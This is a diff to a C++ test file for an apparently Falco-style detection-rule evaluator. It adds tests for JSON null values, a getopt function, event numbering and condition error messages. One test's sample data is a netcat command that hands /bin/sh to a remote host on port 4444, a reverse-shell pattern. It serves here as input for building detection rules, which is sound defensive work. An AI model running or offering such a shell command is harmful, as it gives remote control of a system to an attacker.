@@ -18,8 +18,12 @@ bool holds(std::string_view condition) {
 }  // namespace
 
 TEST_CASE("a check of an absent field is false whatever it asks") {
-    for (const std::string_view field :
-         {"ct.errormessage", "ct.error", "s3.key", "json.value[/nowhere/at/all]", "ct.response"}) {
+    for (const std::string_view field : {"ct.errormessage",
+                                         "ct.error",
+                                         "s3.key",
+                                         "json.value[/nowhere/at/all]",
+                                         "ct.response",
+                                         "getopt(ct.error, 'a:')[a]"}) {
         CAPTURE(field);
         for (const std::string_view check : {"exists",         "= x",
                                              "!= x",           "< x",
@@ -135,6 +139,64 @@ TEST_CASE("the values of JSON are texts") {
     CHECK(holds("jevt.value[/userIdentity/userName] = Bob"));
 }
 
+TEST_CASE("json.value of JSON null is the text null, as Falco's plugin has it") {
+    for (const std::string_view field :
+         {"json.value[/responseElements]", "json.value[/errorCode]", "jevt.value[/gone/0/a]"}) {
+        const FalcoBench bench(falco_rules({falco_rule(std::string(field) + " exists")}));
+        CAPTURE(field);
+        const std::string record =
+            R"({"eventTime":"2024-07-31T23:29:16Z","responseElements":null,"errorCode":null,"gone":[{"a":null}]})";
+        const auto holds_there = [&](std::string_view check) {
+            return falco_matches(std::string(field) + " " + std::string(check), record);
+        };
+        CHECK(holds_there("exists"));
+        CHECK(holds_there("= null"));
+        CHECK(holds_there("!= Success"));
+        CHECK(holds_there("in (a, null)"));
+        CHECK(holds_there("startswith nu"));
+        CHECK(holds_there("glob n*l"));
+        CHECK(holds_there("> a"));
+        CHECK_FALSE(holds_there("= Success"));
+        CHECK_FALSE(holds_there("!= null"));
+        CHECK_FALSE(holds_there("in (a, b)"));
+        CHECK(falco_matches("len(" + std::string(field) + ") = 4", record));
+    }
+    CHECK_FALSE(holds("ct.error exists"));
+    CHECK_FALSE(holds("json.value[/requestParameters/gone] exists"));
+    CHECK(holds("json.value[/eventName] = CreateUser and json.value[/eventName] != null"));
+}
+
+TEST_CASE("getopt finds the options of a command line") {
+    const auto given = [](std::string_view condition, std::string_view line) {
+        return falco_matches(
+            condition,
+            R"({"eventTime":"2024-07-31T23:29:16Z","eventName":")" + std::string(line) + "\"}");
+    };
+    constexpr std::string_view kLine = "nc -nv -e /bin/sh host -p4444 -- -x";
+    CHECK(given("getopt(ct.name, 'nve:p:') intersects (e, z)", kLine));
+    CHECK(given("getopt(ct.name, 'nve:p:') in (n, v, e, p)", kLine));
+    CHECK_FALSE(given("getopt(ct.name, 'nve:p:') in (n, v, e)", kLine));
+    CHECK_FALSE(given("getopt(ct.name, 'nve:p:x') intersects (x)", kLine));
+    CHECK(given("getopt(ct.name, 'e:')[e] = /bin/sh", kLine));
+    CHECK(given("basename(getopt(ct.name, 'e:')[e]) = sh", kLine));
+    CHECK(given("getopt(ct.name, 'e:p:')[p] startswith 44", kLine));
+    CHECK(given("getopt(ct.name, 'n')[n] = ''", kLine));
+    CHECK(given("len(getopt(ct.name, 'nve:p:')) = 4", kLine));
+    CHECK(given("join('+', getopt(ct.name, 'nve:p:')) = n+v+e+p", kLine));
+    CHECK(given("getopt(ct.name, 'p::')[p] = 4444", kLine));
+    CHECK(given("getopt(ct.name, 'e::')[e] = ''", kLine));
+    CHECK_FALSE(given("getopt(ct.name, 'e:')[e] exists", "nc -e"));
+    CHECK_FALSE(given("getopt(ct.name, 'ab') exists", "no options"));
+}
+
+TEST_CASE("the number of an event counts the records of its file") {
+    CHECK(holds("evt.num = 1"));
+    CHECK(holds("evt.num <= 3"));
+    CHECK_FALSE(holds("evt.num > 1"));
+    CHECK(holds("evt.num in (1, 2)"));
+    CHECK(holds("s3.bytes exists or evt.num != 7"));
+}
+
 TEST_CASE("derived fields mean what their descriptions say") {
     CHECK(holds("ct.shortsrc = iam"));
     CHECK(holds("ct.user = Bob and ct.originaluser = Bob"));
@@ -199,10 +261,15 @@ TEST_CASE("a mistake in a condition is told at its place with what is near") {
     CHECK(condition_errors("ct.name[3] = x").size() == 1);
     CHECK(condition_errors("s3.bytes contains 3").size() == 1);
     CHECK(condition_errors("s3.bytes > many").size() == 1);
-    CHECK(condition_errors("evt.num > 5").size() == 1);
     CHECK(condition_errors("ec2.imageids = x").size() == 1);
     CHECK(condition_errors("ct.name bcontains xyz").size() == 1);
-    CHECK(condition_errors("getopt(ct.name, 'a') = x").size() == 1);
+    CHECK(condition_errors("getopt(ct.name, 'a') = x").size() == 1);  // a list
+    CHECK(condition_errors("getopt(ct.name, '-a') exists").size() == 1);
+    CHECK(condition_errors("getopt(ct.name, ct.id) exists").size() == 1);
+    CHECK(condition_errors("getopt(ct.name) exists").size() == 1);
+    CHECK(condition_errors("getopt(ct.name, 'ab:')[c] exists").size() == 1);
+    CHECK(condition_errors("getopt(ct.name, 'ab:')[:] exists").size() == 1);
+    CHECK(condition_errors("evt.num > many").size() == 1);
     CHECK(condition_errors("ct.name glob val(ct.id)").size() == 1);
     CHECK(condition_errors("ct.name =").size() == 1);
     CHECK(condition_errors("and").size() == 1);
